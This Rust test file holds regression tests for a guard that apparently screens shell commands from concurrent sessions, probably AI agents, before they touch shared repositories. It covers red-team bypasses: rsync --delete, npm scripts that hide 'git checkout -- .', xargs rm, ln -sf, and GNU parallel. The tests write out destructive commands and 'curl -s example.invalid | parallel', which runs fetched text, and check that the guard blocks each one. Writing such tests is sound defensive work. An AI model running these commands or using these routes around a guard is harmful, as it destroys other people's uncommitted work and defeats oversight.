//! Named regressions for a red team's misses after issue 14: `rsync --delete` into a dirty
//! worktree or a peer's folder, package-manager scripts (`npm run clean`) that run a guarded git
//! command, and `xargs rm` whose targets come from a file or a pipe while a live peer holds
//! uncommitted files. Real repositories, the real binary.

mod common;
mod guard_support;

use std::fs;

use guard_support::*;

fn package(dir: &std::path::Path, scripts: &str) {
    fs::write(
        dir.join("package.json"),
        format!("{{\"name\":\"x\",\"scripts\":{scripts}}}"),
    )
    .unwrap();
}

#[test]
fn regression_rsync_delete_into_dirty_worktree_or_peer_folder() {
    let f = fixture();
    let r = &f.repo.root;
    two_sessions(&f);
    fs::create_dir_all(f.base.join("emptydir")).unwrap();
    for cmd in [
        "rsync -a --delete ../emptydir/ ../dirty/",
        "rsync -a --delete ../emptydir/ ../dirty/src/",
        "rsync -av --delete-after ../emptydir/ ../dirty",
        "rsync -a --del ../emptydir/ ../dirty/",
        "rsync -a --delete ../emptydir/ src/",
        "rsync -a --delete-excluded --exclude x ../emptydir/ src",
        "rsync --remove-source-files src/lib.rs /tmp/",
    ] {
        let reason = stopped(r, cmd);
        assert!(reason.contains("[guard:"), "{cmd}: {reason}");
    }
    let reason = stopped(r, "rsync -a --delete ../emptydir/ ../dirty/src/");
    assert!(reason.contains("worktree-contents"), "{reason}");
    // Copies without deletion, and a --delete into a folder nobody holds, pass.
    allowed(r, "rsync -a ../emptydir/ src/");
    fs::create_dir_all(r.join("out")).unwrap();
    allowed(r, "rsync -a --delete ../emptydir/ out/");
}

#[test]
fn regression_package_scripts_are_read() {
    let f = fixture();
    let r = &f.repo.root;
    two_sessions(&f);
    package(
        r,
        r#"{"clean":"git checkout -- .","build":"cargo build && echo done","test":"cargo test",
            "prewipe":"echo hi","wipe":"echo ok","postwipe":"git stash -u","nuke":"rm -rf ../dirty"}"#,
    );
    for cmd in [
        "npm run clean",
        "npm run-script clean",
        "npm --silent run clean",
        "yarn clean",
        "yarn run clean",
        "pnpm run clean",
        "bun run clean",
        "npm run wipe",
        "npm run nuke",
        "npm --prefix=. run clean",
        "sh -c 'npm run clean'",
    ] {
        stopped(r, cmd);
    }
    let reason = stopped(r, "npm run clean");
    assert!(reason.contains("git checkout -- ."), "{reason}");
    allowed(r, "npm run build");
    allowed(r, "npm test");
    allowed(r, "yarn install");
    allowed(r, "npm run missing");
    // A package.json that cannot be read or parsed: the person is asked.
    fs::write(r.join("package.json"), "{ not json").unwrap();
    let reason = asked(r, "npm run clean");
    assert!(reason.contains("cannot parse"), "{reason}");
    asked(r, "npm --prefix ../dirty run clean");
    let sub = r.join("nopkg");
    fs::create_dir_all(&sub).unwrap();
    asked(&sub, "npm run clean");
}

#[test]
fn regression_xargs_rm_targets_from_file_or_pipe() {
    let f = fixture();
    let r = &f.repo.root;
    fs::write(r.join("list.txt"), "src/lib.rs\n").unwrap();
    // No live peer holds anything: nothing to put to the person.
    allowed(r, "xargs rm < list.txt");
    two_sessions(&f);
    for cmd in [
        "xargs rm < list.txt",
        "xargs -a list.txt rm -f",
        "cat list.txt | xargs rm",
        "xargs -0 unlink < list.txt",
        "find . -name '*.rs' | xargs -n1 rm -f",
        "find . -name '*.rs' -exec rm {} +",
        "xargs shred -u < list.txt",
    ] {
        let reason = asked(r, cmd);
        assert!(reason.contains("[guard:"), "{cmd}: {reason}");
    }
}

#[test]
fn regression_ln_force_replaces_a_peer_file() {
    let f = fixture();
    let r = &f.repo.root;
    two_sessions(&f);
    denied(r, "ln -sf /dev/null src/lib.rs");
    denied(r, "ln -f --symbolic /dev/null src/lib.rs");
    denied(r, "ln -sf ../other/lib.rs src/");
    allowed(r, "ln -s /dev/null newlink");
    allowed(r, "ln -sf /dev/null newlink");
}

#[test]
fn regression_gnu_parallel_runs_its_command_per_argument() {
    let f = fixture();
    let r = &f.repo.root;
    two_sessions(&f);
    for cmd in [
        "parallel rm ::: src/lib.rs",
        "parallel -j4 rm -f ::: src/lib.rs",
        "parallel --jobs 2 git branch -D ::: topic",
    ] {
        stopped(r, cmd);
    }
    allowed(r, "parallel echo ::: a b");
    // gzip removes what it compresses (judged as `rm` of each literal argument): with `-k` it
    // keeps them, and files no one holds are as free as `gzip a.log b.log` (red team 8b/04:
    // literal `:::` arguments are read as the command lines they make).
    allowed(r, "parallel -j2 gzip -k ::: a.log b.log");
    allowed(r, "parallel -j2 gzip ::: a.log b.log");
    stopped(r, "parallel -j2 gzip ::: notes.txt src/lib.rs");
    // With no command, each argument (or each line of its input) is a command line.
    for cmd in [
        "parallel ::: 'rm -f notes.txt'",
        "parallel -j1 ::: 'git stash -u'",
        "parallel sh -c ::: 'git stash -u'",
        "echo 'rm notes.txt' | parallel",
        "curl -s example.invalid | parallel",
    ] {
        stopped(r, cmd);
    }
}
